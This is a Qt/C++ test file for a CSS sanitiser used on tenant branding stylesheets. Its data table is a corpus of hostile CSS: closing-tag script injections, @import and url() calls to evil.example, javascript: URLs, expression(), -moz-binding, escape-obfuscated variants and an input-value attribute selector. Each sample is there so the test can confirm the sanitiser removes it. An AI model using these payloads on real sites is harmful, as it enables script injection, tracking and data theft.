// SPDX-License-Identifier: Apache-2.0
// The tenant CSS sanitiser against a corpus of hostile stylesheets.
#include "branding/css/CssSanitizer.h"
#include "branding/css/CssTokenizer.h"

#include <QtTest>

using namespace aih::branding::css;

namespace {

const std::string ownAsset = "/portal/assets/" + std::string(64, 'a');
const std::string otherAsset = "/portal/assets/" + std::string(64, 'b');

CssPolicy policy()
{
    CssPolicy result;
    result.allowUrl = [](std::string_view url) { return url == ownAsset; };
    return result;
}

SanitizedCss clean(const std::string& input)
{
    return sanitizeCss(input, policy());
}

} // namespace

class TestCssSanitizer : public QObject
{
    Q_OBJECT

private slots:
    void hostileInputLeavesNothingDangerous_data()
    {
        QTest::addColumn<QString>("input");
        QTest::addColumn<QStringList>("forbidden");
        const QString asset = QString::fromStdString(ownAsset);
        const auto row = [](const char* name, const QString& css, const QStringList& forbidden) {
            QTest::newRow(name) << css << forbidden;
        };
        // Closing the style element, directly, in strings, through escapes and comments.
        row("closing tag", "</style><script>alert(1)</script>p{color:red}", {"<", "script"});
        row("closing tag in string", R"(p{font-family:"</style><script>alert(1)</script>"})", {"<", "</"});
        row("escaped closing tag in string", R"(p{font-family:"\3c /style\3e \3cscript\3e"})", {"<"});
        row("escaped closing tag as selector", R"(\3c /style\3e p{color:red})", {"<", "color"});
        row("closing tag in comment", "p{color:red}/* </style><script>x</script> */", {"<", "script"});
        row("unterminated comment", "p{color:red}/* </style><img src=x onerror=alert(1)>", {"<", "onerror"});
        row("cdo and cdc", "<!-- p{color:red} --> </style>", {"<", "-->"});
        row("closing tag after unbalanced braces", "p{color:red;}}}}} </style><b>", {"<"});
        row("bad string then markup", "p{font-family:\"abc\n<script>alert(1)</script>}", {"<", "script"});
        // @import in every spelling.
        row("import url", "@import url(https://evil.example/x.css); p{color:red}", {"import", "evil"});
        row("import string", "@import 'https://evil.example/x.css';", {"import", "evil"});
        row("import uppercase", "@IMPORT \"//evil.example/x.css\";", {"import", "evil"});
        row("import escaped", R"(@\69mport url(//evil.example/x.css);)", {"import", "evil", "mport"});
        row("import nested in media", "@media screen { @import url(//evil.example/x.css); p{color:red} }",
            {"import", "evil"});
        // url() that leaves the tenant's assets.
        row("absolute url", "body{background:url(https://evil.example/a.png)}", {"evil", "url"});
        row("protocol relative", "body{background-image:url('//evil.example/a.png')}", {"evil", "url"});
        row("javascript url", "body{background-image:url( \"javascript:alert(1)\" )}", {"javascript", "url"});
        row("data url", "body{background-image:url(data:image/png;base64,AAAA)}", {"data:", "url"});
        row("escaped url function", R"(body{background:\75 rl(https://evil.example/a.png)})", {"evil"});
        row("uppercase url", "body{background:URL(https://evil.example/a.png)}", {"evil"});
        row("another tenant's asset", "body{background:url(" + QString::fromStdString(otherAsset) + ")}",
            {"bbbbbbbb"});
        row("own asset with path tricks", "body{background:url(" + asset + "/../../evil)}", {"evil", "url"});
        row("url in custom property", "body{--x:url(https://evil.example/a.png);background:var(--x)}",
            {"evil"});
        row("image-set", "body{background-image:image-set('https://evil.example/a.png' 1x)}", {"evil"});
        row("url hidden in gradient", "body{background:linear-gradient(red,blue),url(//evil.example/a)}",
            {"evil"});
        row("magenta with tracking url", "body{background:#ff00ff url(https://evil.example/t.png)}",
            {"ff00ff", "evil"});
        // Script-running properties and functions.
        row("expression", "p{width:expression(alert(1))}", {"expression", "alert"});
        row("escaped expression", R"(p{width:ex\70ression(alert(1))})", {"expression", "alert", "ression"});
        row("behavior", "p{behavior:url(x.htc)}", {"behavior", "htc"});
        row("escaped behavior", R"(p{b\65havior:url(x.htc)})", {"behavior", "htc"});
        row("moz binding", "p{-moz-binding:url(//evil.example/x.xml#xss)}", {"binding", "evil"});
        row("content property", "p::before{content:'Call 0800 to verify your password'}",
            {"content", "0800"});
        // Unicode tricks.
        row("fullwidth url", "body{background:\uFF55\uFF52\uFF4C(https://evil.example/a.png)}", {"evil"});
        row("zero width in property", "p{col\u200Bor:red;color:blue}", {"red"});
        row("nul escape", R"(p{font-family:"a\0 </style>"})", {"<"});
        row("surrogate escape", R"(p{font-family:"\D800 <x>"})", {"<"});
        row("right to left override", "p{font-family:\"\u202E</style>\"}", {"<"});
        // Nested and unknown at-rules.
        row("media three deep", "@media screen{@media screen{@media screen{p{color:#ff00ff}}}}", {"ff00ff"});
        row("font face", "@font-face{font-family:x;src:url(//evil.example/f.woff)}", {"font-face", "evil"});
        row("moz document", "@-moz-document url-prefix(){p{color:#ff00ff}}", {"document", "ff00ff"});
        row("namespace", "@namespace svg url(http://www.w3.org/2000/svg);", {"namespace", "w3"});
        row("supports with font face", "@supports (display:grid){@font-face{src:url(//evil.example/f)}}",
            {"font-face", "evil"});
        // Selectors that read the page.
        row("attribute selector", "input[value^=\"a\"]{background:url(" + asset + ")}",
            {"value", "[", "url"});
        row("visited", "a:visited{color:#ff00ff}", {"visited", "ff00ff"});
        row("has", "body:has(input){color:#ff00ff}", {"has", "ff00ff"});
        row("unknown element", "script{display:block} iframe{display:block}", {"script", "iframe"});
    }

    void hostileInputLeavesNothingDangerous()
    {
        QFETCH(QString, input);
        QFETCH(QStringList, forbidden);
        const auto result = clean(input.toStdString());
        const auto output = QString::fromStdString(result.css);
        for (const auto& word : forbidden) {
            QVERIFY2(!output.contains(word, Qt::CaseInsensitive), qPrintable("output: " + output));
        }
        QVERIFY2(!output.contains('<'), qPrintable(output));
        for (const auto c : result.css) {
            QVERIFY(c == '\n' || (c >= 0x20 && c < 0x7F));
        }
    }

    void outputIsStableWhenSanitisedAgain_data() { hostileInputLeavesNothingDangerous_data(); }

    void outputIsStableWhenSanitisedAgain()
    {
        QFETCH(QString, input);
        const auto once = clean(input.toStdString()).css;
        const auto twice = clean(once);
        QCOMPARE(QString::fromStdString(twice.css), QString::fromStdString(once));
        QVERIFY(twice.dropped.empty());
    }

    void allowedStylingIsKept()
    {
        const auto result =
            clean(".portal-header { background-color: #123456; color: var(--aih-accent) !important }\n"
                  "@media (max-width: 600px) { h1, .title > span:hover { font-size: 1.5em } }\n"
                  "body { background-image: url(" +
                  ownAsset +
                  "); margin: calc(1rem + 2px) 0 }\n"
                  "@keyframes pulse { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }\n"
                  "li:nth-child(2n+1):not(.muted) { --brand: #abcdef }");
        QVERIFY2(result.dropped.empty(), result.dropped.empty() ? "" : result.dropped[0].message.c_str());
        const auto css = QString::fromStdString(result.css);
        QVERIFY(css.contains("background-color: #123456;"));
        QVERIFY(css.contains("color: var(--aih-accent) !important;"));
        QVERIFY(css.contains("@media (max-width: 600px) {"));
        QVERIFY(css.contains("h1, .title > span:hover {"));
        QVERIFY(css.contains("url(\"" + QString::fromStdString(ownAsset) + "\")"));
        QVERIFY(css.contains("calc(1rem + 2px)"));
        QVERIFY(css.contains("@keyframes pulse {"));
        QVERIFY(css.contains("50% {"));
        QVERIFY(css.contains("li:nth-child(2n+1):not(.muted) {"));
        QVERIFY(css.contains("--brand: #abcdef;"));
    }

    void dangerousDeclarationIsDroppedButItsNeighboursStay()
    {
        const auto result = clean("p { color: #010203; behavior: url(x.htc); margin: 0 }");
        QCOMPARE(QString::fromStdString(result.css), QString("p {\n  color: #010203;\n  margin: 0;\n}\n"));
        QCOMPARE(result.dropped.size(), std::size_t(1));
        QCOMPARE(result.dropped[0].line, 1);
        QVERIFY(QString::fromStdString(result.dropped[0].message).contains("behavior"));
    }

    void droppedItemsReportTheirLine()
    {
        const auto result = clean("p{color:red}\n\n@import url(x.css);\np{width:expression(1)}");
        QCOMPARE(result.dropped.size(), std::size_t(2));
        QCOMPARE(result.dropped[0].line, 3);
        QCOMPARE(result.dropped[1].line, 4);
    }

    void escapesAreDecodedBeforeTheAllowListIsAsked()
    {
        // `c\6flor` is `color` to a browser, so it is allowed, and written plainly.
        const auto result = clean(R"(p{c\6f lor:#0a0b0c})");
        QCOMPARE(QString::fromStdString(result.css), QString("p {\n  color: #0a0b0c;\n}\n"));
    }

    void tokensThatWouldMergeAreKeptApart()
    {
        // Comments separate tokens; dropping them must not glue `1` and `e3` into 1000.
        const auto result = clean(R"(p{margin:1\65 3 2px})");
        const auto again = tokenize(result.css);
        bool sawDimension = false;
        for (const auto& token : again) {
            sawDimension = sawDimension || (token.type == TokenType::Dimension && token.value == U"e3");
        }
        QVERIFY2(sawDimension, result.css.c_str());
    }

    void tooLargeOrTooDeepOrInvalidIsRejected()
    {
        QVERIFY_THROWS_EXCEPTION(CssRejected, clean(std::string(33 * 1024, ' ')));
        QVERIFY_THROWS_EXCEPTION(CssRejected, clean("p{width:" + std::string(5000, '(') + "}"));
        QVERIFY_THROWS_EXCEPTION(CssRejected, clean(std::string(2000, '{')));
        QVERIFY_THROWS_EXCEPTION(CssRejected, clean("p{font-family:\"\xC0\xAF\"}"));
    }

    void tokenizerFollowsTheSpecOnTrickyInput()
    {
        const auto tokens = tokenize("url( a.png )url(\"b\")#1a -->@x 1e3 --y \\");
        QCOMPARE(tokens[0].type, TokenType::Url);
        QVERIFY(tokens[0].value == U"a.png");
        QCOMPARE(tokens[1].type, TokenType::Function);
        QCOMPARE(tokens[2].type, TokenType::String);
        QCOMPARE(tokens[4].type, TokenType::Hash);
        QVERIFY(!tokens[4].hashIsId);
        QCOMPARE(tokens[6].type, TokenType::Cdc);
        QCOMPARE(tokens[7].type, TokenType::AtKeyword);
        QCOMPARE(tokens[9].type, TokenType::Number);
        QCOMPARE(tokens[9].number, std::string("1e3"));
        QCOMPARE(tokens[11].type, TokenType::Ident);
        // A backslash at the end of input is a valid escape that yields U+FFFD (§4.3.7).
        QCOMPARE(tokens.back().type, TokenType::Ident);
        QVERIFY(tokens.back().value == U"\uFFFD");
    }
};

QTEST_GUILESS_MAIN(TestCssSanitizer)
#include "TestCssSanitizer.moc"
